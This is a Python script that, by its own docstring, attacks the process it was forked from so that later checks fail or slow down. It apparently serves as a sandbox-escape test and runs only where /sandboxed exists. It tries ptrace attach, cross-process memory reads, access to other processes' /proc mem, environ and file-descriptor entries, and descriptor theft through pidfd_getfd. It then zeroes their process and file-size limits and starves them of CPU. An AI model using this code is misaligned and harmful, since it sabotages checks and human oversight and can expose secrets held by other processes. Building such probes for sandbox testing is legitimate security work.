"""Meddles with the process that it was forked from, so that the checks to come fail or crawl: limits, priority, memory."""

import ctypes
import os
import resource

tried = False


def attack():
    if not os.path.exists("/sandboxed"):
        raise SystemExit("only in the sandbox")
    global tried
    if tried:
        return
    tried = True
    others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    done = [found for pid in others for found in [*read(pid), *take_descriptors(pid)]]
    print(f"attack: of {len(others)} processes, got into {done or 'nothing'}\n", end="", flush=True)
    for pid in others:
        weaken(pid)


def read(pid):
    PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
    libc = ctypes.CDLL(None, use_errno=True)
    here, there = ctypes.create_string_buffer(16), ctypes.create_string_buffer(16)
    vectors = [(ctypes.c_size_t * 2)(ctypes.addressof(buffer), 16) for buffer in (here, there)]
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0 or libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        yield f"{pid} traced"
    if libc.process_vm_readv(pid, vectors[0], 1, vectors[1], 1, 0) != -1:
        yield f"{pid} memory"
    for name in ("mem", "fd/0", "fd/1", "fd/3", "environ", "maps"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                file.read(0)
            yield f"{pid} {name}"
        except OSError:
            pass


def take_descriptors(pid):
    PIDFD_GETFD = 438
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        descriptor = os.pidfd_open(pid)
    except (OSError, AttributeError):
        return
    for number in range(64):
        if libc.syscall(PIDFD_GETFD, descriptor, number, 0) >= 0:
            yield f"{pid} descriptor {number}"
    os.close(descriptor)


def weaken(pid):
    for change in (
        lambda: resource.prlimit(pid, resource.RLIMIT_NPROC, (0, 0)),
        lambda: resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0)),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(pid, {0}),
    ):
        try:
            change()
        except OSError:
            pass
